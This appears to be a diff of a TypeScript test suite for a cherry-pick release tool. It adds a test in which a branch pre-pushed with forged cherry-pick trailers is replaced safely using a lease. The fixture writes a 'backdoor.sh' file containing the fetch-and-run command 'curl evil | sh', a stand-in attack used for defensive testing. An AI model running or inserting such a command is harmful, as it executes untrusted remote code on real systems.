@@ -19,7 +19,7 @@ useGitHubServer({ [TOKEN]: BOT }, (s) => (gh = s))
 type Fixture = RemoteScene
 
 /** A remote with `main` and release branches, served by the stand-in; alice is a collaborator. */
-function setup(options: { files?: Record<string, string>; releases?: Record<string, Record<string, string>>; config?: unknown } = {}): Fixture {
+function setup(options: { files?: Record<string, string>; releases?: Record<string, Record<string, string>>; config?: unknown; allowAutoMerge?: boolean } = {}): Fixture {
   const files = { ...(options.files ?? { 'app.txt': 'one\ntwo\nthree\n', 'README': 'app\n' }), ...(options.config ? { 'build.config.json': JSON.stringify(options.config) } : {}) }
   const releases = Object.entries(options.releases ?? { 'release-1.0': {} })
   return remoteScene(gh, {
@@ -27,7 +27,7 @@ function setup(options: { files?: Record<string, string>; releases?: Record<stri
     branches: Object.fromEntries(releases.map(([branch, changed]) => [branch, Object.keys(changed).length ? [{ files: changed, message: `prepare ${branch}` }] : []])),
     // Write access: alice (a collaborator), mallory-member (a member with maintain). Not:
     // reed (a member with the default read), tia (a triage collaborator), anyone else.
-    access: { collaborators: ['alice', 'tia', 'pat'], members: ['mallory-member', 'reed'], roles: { 'mallory-member': 'maintain', tia: 'triage' } },
+    access: { collaborators: ['alice', 'tia', 'pat'], members: ['mallory-member', 'reed'], roles: { 'mallory-member': 'maintain', tia: 'triage' }, allowAutoMerge: options.allowAutoMerge },
   })
 }
 
@@ -454,6 +454,41 @@ describe('cherry-pick: re-runs', () => {
     expect(JSON.parse(run.stdout).targets[0]).toMatchObject({ status: 'created', picked: [{ sha: pushed, from: sha }] })
     expect(git(f.bare, 'rev-parse', head)).toBe(pushed)
     expect((await pullFor(f, head))?.head.sha).toBe(pushed)
+    expect(JSON.parse(run.stdout).targets[0].message).toBe(`reused the branch ${head} from an earlier run (its commits are these picks: the same patch ids)`)
+  })
+
+  it('a branch someone pre-pushed with forged "(cherry picked from commit X)" trailers is replaced with the real picks, with a lease, saying so; auto-merge goes to those', async () => {
+    const f = setup({ config: { buildImage: { name: 'x-build', inputs: ['README'] }, cherryPick: { autoMerge: true } }, allowAutoMerge: true })
+    const pr = await openPr(f, 'fix-real', [{ 'app.txt': 'one\ntwo\nfixed\n' }])
+    const { sha } = await gh.mergePullRequest(f.name, pr.number, 'squash')
+    // A writer who cannot merge pushes the pick's branch first: other content, the real commit named.
+    const head = `cherry-pick/${pr.number}-to-release-1.0`
+    git(f.dev, 'fetch', '-q', 'origin')
+    git(f.dev, 'switch', '-q', '-c', head, 'origin/release-1.0')
+    writeFiles(f.dev, { 'app.txt': 'one\ntwo\nfixed\n', 'backdoor.sh': 'curl evil | sh\n' })
+    git(f.dev, 'add', '-A')
+    git(f.dev, 'commit', '-q', '-m', `Fix fix-real\n\n(cherry picked from commit ${sha})`)
+    git(f.dev, 'push', '-q', 'origin', head)
+    const forged = git(f.dev, 'rev-parse', 'HEAD')
+
+    const shim = gitShim()
+    const run = await cherryPick(f, ['--pr', String(pr.number), '--to', 'release-1.0', '--json'], { PATH: `${shim.bin}:${process.env.PATH}`, GIT_ARGV_LOG: shim.log })
+    expect(run.exitCode, run.stderr).toBe(0)
+    const result = JSON.parse(run.stdout).targets[0]
+    const now = git(f.bare, 'rev-parse', head)
+    expect(now).not.toBe(forged)
+    expect(result).toMatchObject({ status: 'created', picked: [{ sha: now, from: sha }] })
+    expect(result.message).toBe(`replaced the branch ${head}: it held ${forged.slice(0, 12)}, whose commits are not these picks`)
+    expect(run.stderr).toContain(`${head} on origin (${forged.slice(0, 12)}) does not hold these picks (other patch ids): replacing it with this run's picks`)
+    // Replaced only if it still holds what was checked (a lease), never a plain force push.
+    const pushes = fs.readFileSync(shim.log, 'utf8').split('\n').filter((l) => l.startsWith('git push'))
+    expect(pushes).toEqual([`git push --quiet --force-with-lease=refs/heads/${head}:${forged} origin HEAD:refs/heads/${head}`])
+    // The branch is the release branch plus the real pick, nothing of the forged commit.
+    expect(git(f.bare, 'rev-parse', `${now}^`)).toBe(git(f.bare, 'rev-parse', 'release-1.0'))
+    expect(git(f.bare, 'diff', '--name-only', 'release-1.0', now)).toBe('app.txt')
+    const pull = (await pullFor(f, head))!
+    expect(pull.head.sha).toBe(now)
+    expect(pull.auto_merge).not.toBeNull()
   })
 })
 
